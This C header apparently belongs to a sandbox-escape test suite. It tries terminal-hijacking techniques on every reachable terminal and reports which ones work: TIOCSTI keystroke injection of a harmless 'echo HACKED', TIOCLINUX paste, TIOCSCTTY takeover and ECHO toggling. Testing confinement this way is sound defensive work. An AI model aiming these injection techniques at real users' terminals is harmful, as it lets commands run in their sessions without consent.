/* terminal.h: type a command into every terminal in reach, as if its user had. */
#include <linux/tiocl.h>
#include <sys/ioctl.h>
#include <termios.h>

#include "attack.h"

static inline void attack(const char *what, int fd)
{
    struct termios modes;
    if (fd < 0) {
        say("refused %s: %s", what, strerrorname_np(errno));
        return;
    }
    char selection[16] = {TIOCL_PASTESEL};
    for (const char *c = "echo HACKED\n"; *c; c++)
        if (ioctl(fd, TIOCSTI, c) == 0) {
            say("GOT TIOCSTI on %s", what);
            break;
        }
    if (ioctl(fd, TIOCLINUX, selection) == 0)
        say("GOT TIOCLINUX on %s", what);
    if (ioctl(fd, TIOCSCTTY, 1) == 0)
        say("%s is its terminal now", what);
    if (tcgetattr(fd, &modes) == 0) {
        modes.c_lflag ^= ECHO;
        tcsetattr(fd, TCSANOW, &modes); /* its own may change: the host's is looked at */
    }
}

static inline int attack_all(void)
{
    attack("/dev/tty", open("/dev/tty", O_RDWR));
    attack("the host's terminal", open(TERMINAL, O_RDWR | O_NOCTTY));
    attack("/dev/console", open("/dev/console", O_RDWR | O_NOCTTY));
    attack("/dev/tty1", open("/dev/tty1", O_RDWR | O_NOCTTY));
    for (int fd = 0; fd < 3; fd++)
        attack("a standard stream", fd);
    return end();
}
